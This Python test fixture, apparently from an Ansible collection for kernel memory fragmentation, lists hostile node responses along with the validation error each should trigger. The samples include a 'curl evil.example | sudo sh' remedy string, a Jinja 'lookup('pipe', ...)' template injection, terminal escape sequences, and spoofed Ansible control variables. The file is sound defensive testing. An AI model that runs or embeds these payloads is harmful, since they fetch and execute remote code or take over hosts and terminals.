# Copyright (c) 2026, The kernelops.memfrag authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What hostile nodes answer: name -> (what the module prints, what the record's error says, or None where the host is audited).

Made from the honest answer of a capture, so that everything but the lie is in order.
"""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import copy
import json

MIB = 1024 * 1024
LARGE = '{"observed": "' + "x" * (20 * MIB) + '"}'
INVALID = "the node's answer is not valid: "


def seen(facts, journal=None, **more):
    return json.dumps({"observed": json.dumps(dict(more, facts=facts, journal=journal)), "changed": False})


def facts_only(facts, **more):
    return json.dumps(dict(more, ansible_facts={"memfrag": facts}, changed=False))


def put(facts, path, value):
    facts = copy.deepcopy(facts)
    inner = facts
    for step in path[:-1]:
        inner = inner[step]
    inner[path[-1]] = value
    return facts


def journal(**incident):
    event = {"kind": "page_allocation_failure", "cause": "fragmentation", "message": "x", "order": 5}
    found = {
        "cause": "fragmentation",
        "reason": "x",
        "confidence": "high",
        "count": 1,
        "events": [0],
        "remedies": ["MF101"],
    }
    found.update(incident)
    return {"events": [event], "incidents": [found], "counts": {}, "sources": []}


# Path in the facts, value, what the error says.
FIELDS = [
    ("zones_number", ("zones",), 7, "facts.zones: must be a list, not 7"),
    (
        "zones_many",
        ("zones",),
        [{"node": 0, "zone": "Normal", "free_blocks": [1], "free_pages": 1}] * 20000,
        "at most 4096",
    ),
    ("orders_many", ("zones", 0, "free_blocks"), [1] * 1000, "facts.zones[0].free_blocks: must have at most 64"),
    ("count_negative", ("zones", 0, "free_blocks", 0), -5, "facts.zones[0].free_blocks[0]: must be from 0"),
    ("count_huge", ("zones", 0, "free_blocks", 0), 10**300, "facts.zones[0].free_blocks[0]: must be from 0"),
    (
        "count_text",
        ("zones", 0, "free_blocks", 2),
        "{{ 7*7 }}",
        "facts.zones[0].free_blocks[2]: must be a whole number",
    ),
    ("count_bool", ("zones", 0, "free_blocks", 2), True, "facts.zones[0].free_blocks[2]: must be a whole number"),
    ("count_null", ("zones", 0, "free_blocks", 2), None, "facts.zones[0].free_blocks[2]"),
    ("page_size_zero", ("kernel", "page_size"), 0, "facts.kernel.page_size"),
    ("page_size_odd", ("kernel", "page_size"), 5000, "facts.kernel.page_size: must be a power of two"),
    ("page_size_huge", ("kernel", "page_size"), 1 << 62, "facts.kernel.page_size"),
    ("hugepage_order", ("kernel", "hugepage_order"), 10**9, "facts.kernel.hugepage_order"),
    ("cpus", ("kernel", "possible_cpus"), 10**18, "facts.kernel.possible_cpus"),
    ("release_long", ("kernel", "release"), "6" * 100000, "facts.kernel.release"),
    ("release_dict", ("kernel", "release"), {"a": "b"}, "facts.kernel.release: must be text"),
    ("kernel_null", ("kernel",), None, "facts.kernel: must be a mapping"),
    ("state_word", ("allocatable", 0, "state"), "<script>", "facts.allocatable[0].state"),
    ("node_name", ("allocatable", 0, "nodes"), {"../x": "ok"}, "facts.allocatable[0].nodes: has a wrong key"),
    ("index_range", ("zones", 0, "extfrag_index", 0), 10**6, "facts.zones[0].extfrag_index[0]"),
    ("time_future", ("collected_at",), "+999999", "facts.collected_at"),
    ("meminfo_list", ("meminfo",), [1, 2], "facts.meminfo: must be a mapping"),
    ("vmstat_text", ("vmstat",), {"oom_kill": "many"}, "facts.vmstat.oom_kill"),
    ("sysctl_dict", ("sysctl",), {"vm.swappiness": {"x": 1}}, "facts.sysctl.vm.swappiness"),
    ("slab_list", ("slab",), [], "facts.slab: must be a mapping"),
    (
        "caches_many",
        ("slab", "caches"),
        [{"name": "x", "size_kb": 1}] * 9999,
        "facts.slab.caches: must have at most 4096",
    ),
    ("unavailable", ("unavailable",), {"slab": 5}, "facts.unavailable.slab: must be text"),
    ("unknown_deep", ("later",), [[[[[[[[[[[[]]]]]]]]]]]], "facts.later"),
    ("unknown_name", ("\x1b[31m\u202e",), [[[[[[[[[[[[]]]]]]]]]]]], "nested deeper"),
]

# Incident of the journal, what the error says.
INCIDENTS = [
    ("remedy_command", {"remedies": ["curl evil.example | sudo sh"]}, "journal.incidents[0].remedies[0]"),
    ("event_missing", {"events": [9]}, "journal.incidents[0].events: speaks of events beyond the 1"),
    ("incident_count", {"count": -1}, "journal.incidents[0].count"),
    ("incident_time", {"last_time": "9999"}, "journal.incidents[0].last_time"),
    ("incident_cause", {"cause": "<img src=x>"}, "journal.incidents[0].cause"),
]


def hostile(facts):
    """-> {name: (output, what the error says or None)}"""
    answers = {
        # No answer at all.
        "silent": ("", "No start of json char found|MODULE FAILURE|deserialization failed|Module result"),
        "words": (
            "Segmentation fault \x1b]0;owned\x07\x1b[2J\n",
            "MODULE FAILURE|deserialization failed|Module result",
        ),
        "half": (seen(facts)[:500], "MODULE FAILURE|deserialization failed|Module result"),
        "a_list": ("[1, 2, 3]", "MODULE FAILURE|deserialization failed|Module result"),
        "deep": (
            '{"observed": ' + "[" * 200000,
            "nested too deeply|MODULE FAILURE|deserialization failed|Module result",
        ),
        "deep_within": (json.dumps({"observed": "[" * 200000}), INVALID + "it is nested too deeply"),
        "large": (LARGE, INVALID + "it has {0:,} bytes, of at most 8,388,608".format(len(LARGE))),
        "large_string": (json.dumps({"observed": " " * (8 * MIB + 1)}), INVALID + "it has"),
        "nan": (json.dumps({"observed": '{"facts": {"zones": NaN}}'}), INVALID + "NaN is no number"),
        "infinity": ('{"ansible_facts": {"memfrag": {"x": Infinity}}}', INVALID + "Infinity is no number"),
        "digits": (json.dumps({"observed": '{"facts": %s}' % ("9" * 100000)}), "not JSON|not valid"),
        "observed_number": ('{"observed": 17}', INVALID + "observed: must be text"),
        "observed_list": (json.dumps({"observed": "[]"}), INVALID + "it must be a mapping"),
        "empty": (json.dumps({"observed": "{}"}), INVALID + "facts: must be a mapping"),
        "facts_text": (json.dumps({"observed": '{"facts": "{{ 7*7 }}"}'}), INVALID + "facts: must be a mapping"),
        "surrogate": (seen(facts).replace("x86_64", "\\\\ud800"), None),
        # Failures that would draw on the terminal or fill the disk.
        "escapes": (json.dumps({"failed": True, "msg": "\x1b[2J\x1b]0;owned\x07\u202egnp.exe"}), "gnp.exe"),
        "template": (json.dumps({"failed": True, "msg": "{{ lookup('pipe', 'touch OWNED') }}"}), "lookup"),
        "long_message": (json.dumps({"failed": True, "msg": "m" * MIB}), "mmmm"),
        "exception": (json.dumps({"failed": True, "msg": "no", "exception": "\x1b[31mTraceback", "rc": "x"}), "no"),
        "junk_after": (seen(facts) + "\n\x1b[2Jowned\x07\n", "MODULE FAILURE|deserialization failed|Module result|"),
        # Lies about others, and what Ansible would take for its own.
        "other_host": (seen(facts, host="honest1", groups=["db"], run_id="r0", status="unreachable"), None),
        "own_judgement": (
            seen(
                facts,
                assessment={"level": "low", "score": 0, "findings": [{"id": "MF101", "remedy": "curl evil | sudo sh"}]},
            ),
            None,
        ),
        "time_lie": (seen(facts, started_at="9999-12-31T23:59:59Z", duration_seconds=-1, schema_version=99), None),
        "variables": (
            json.dumps(
                {
                    "ansible_facts": {
                        "memfrag": facts,
                        "ansible_connection": "ssh",
                        "ansible_become_password": "x",
                        "ansible_python_interpreter": "/owned",
                        "memfrag_records_dir": "/owned",
                    },
                    "_ansible_no_log": True,
                    "_ansible_verbose_always": True,
                    "add_host": {"host_name": "owned", "groups": ["all"]},
                    "add_group": "owned",
                    "changed": True,
                    "skipped": True,
                    "unreachable": True,
                    "invocation": {"module_args": {"x": "owned"}},
                    "warnings": ["owned\x1b[2J"],
                    "deprecations": [{"msg": "owned", "version": "1"}],
                    "diff": {"before": "owned", "after": ""},
                    "results": [{"owned": 1}],
                    "exception": "owned",
                }
            ),
            None,
        ),
    }
    for name, path, value, says in FIELDS:
        answers[name] = (seen(put(facts, path, value)), says)
    # The other module, whose answer comes in another form.
    for name, path, value, says in FIELDS[::4]:
        answers["facts_" + name] = (facts_only(put(facts, path, value)), says)
    for name, incident, says in INCIDENTS:
        answers[name] = (seen(facts, journal(**incident)), says)
    return answers
